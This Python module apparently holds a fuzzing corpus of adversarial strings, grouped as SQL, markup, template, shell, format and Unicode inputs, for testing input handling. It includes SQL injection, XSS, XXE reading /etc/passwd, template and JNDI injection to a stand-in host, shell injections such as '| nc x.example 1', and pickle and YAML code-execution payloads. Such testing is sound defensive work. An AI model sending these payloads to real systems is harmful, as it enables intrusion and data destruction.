"""Texts that mean something to somebody: none of it to us. Each is one that some program was once broken with."""

SQL = [
    *("' or 1=1 --", "'; drop table events; --", '" or ""="', "admin'/*", "1; select pg_sleep(10)", "%27%20or%201=1"),
    *(
        "') union select null, version() --",
        "\\'; select 1; --",
        "$$; select 1; $$",
        "E'\\\\x41'",
        "%s %(id)s {} :id $1",
    ),
]
MARKUP = [
    *("<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "javascript:alert(1)", "<svg/onload=alert(1)>"),
    *(
        "</title><script>1</script>",
        "<!--",
        "]]>",
        '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>',
    ),
    *("&lt;b&gt; &amp;amp;", "<style>@import'//x';</style>", "data:text/html;base64,PHNjcmlwdD4="),
]
TEMPLATES = [
    *(
        "{{7*7}}",
        "${7*7}",
        "<%= 7*7 %>",
        "#{7*7}",
        "*{7*7}",
        "{{config.items()}}",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
    ),
    *(
        "${jndi:ldap://x.example/a}",
        "${${lower:j}ndi:rmi://x.example/a}",
        "%{(#a=1)}",
        "{%import os%}{{os.popen('id')}}",
    ),
    *("$event.properties.v", "$session.id", "$$", "event.properties.v == 1 || true", "profile.traits['a']"),
]
SHELL = [
    *(
        "; cat /etc/passwd",
        "$(touch pwned)",
        "`id`",
        "| nc x.example 1",
        "&& reboot",
        "() { :;}; echo 1",
        "../../../etc/passwd",
    ),
    *(
        "..\\..\\windows\\win.ini",
        "file:///etc/passwd",
        "C:\\con\\con",
        "~root",
        "-rf",
        "--help",
        "\r\nSet-Cookie: a=b",
    ),
]
FORMATS = [
    *("%s%s%s%n", "%x.%08x", "{0.__class__.__init__.__globals__}", "{!r:>1000000}", "%(a)s", "\\u0000", "\\x00", "\\n"),
    *(
        "__import__('os').system('id')",
        "cos\nsystem\n(S'id'\ntR.",
        "!!python/object/apply:os.system [id]",
        "=cmd|' /C calc'!A0",
    ),
    *(
        "constructor",
        "__proto__",
        "null",
        "undefined",
        "NaN",
        "true",
        "1e400",
        "0x7f",
        "-0",
        "[object Object]",
        "9007199254740993",
    ),
]
#: From right to left, marks on marks, families of emoji, composed and decomposed, of no width, beyond the basic plane.
UNICODE = [
    *("\u05e9\u05dc\u05d5\u05dd", "\u202egnp.exe", "\u2066a\u2069\u200f\u200e", "\u0645\u0631\u062d\u0628\u0627 abc"),
    *(
        "Z\u0351\u036b\u0343\u036a\u0302a\u0338\u0322lg\u0335\u0321o",
        "a" + "\u0301" * 200,
        "\u0ba8\u0bbf",
        "\ufdfd",
        "\U0001d518",
    ),
    *(
        "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
        "\U0001f3f3\ufe0f\u200d\U0001f308",
        "\U0001f1e9\U0001f1ea",
    ),
    *(
        "caf\u00e9",
        "cafe\u0301",
        "\u212b",
        "\u00c5",
        "A\u030a",
        "\ufb01",
        "\u00df",
        "\u1e9e",
        "\u0130",
        "\u0131",
        "\u01c5",
    ),
    *(
        "a\u200bb",
        "a\u200cb",
        "a\u200db",
        "\ufeffa",
        "a\u00adb",
        "\u2028",
        "\u2029",
        "\u0085",
        "\u00a0",
        "\u3000",
        "\u180e",
    ),
    *(
        "\ufffd",
        "\uffff",
        "\ufdd0",
        "\U0010ffff",
        "\U0001f4a9",
        "\U00020bb7",
        "\ue000",
        "\x7f",
        "\x01\x1f",
        "\t \n\r",
        "\x1b[31m",
    ),
    *(
        "\u0410\u0440\u0440\u04cf\u0435",
        "\uff33\uff28\uff2f\uff30",
        "I\u0307",
        "\u03c2\u03c3",
        "\U000e0041\U000e0042",
        "\ufe0e",
    ),
]
ALL = [*SQL, *MARKUP, *TEMPLATES, *SHELL, *FORMATS, *UNICODE]
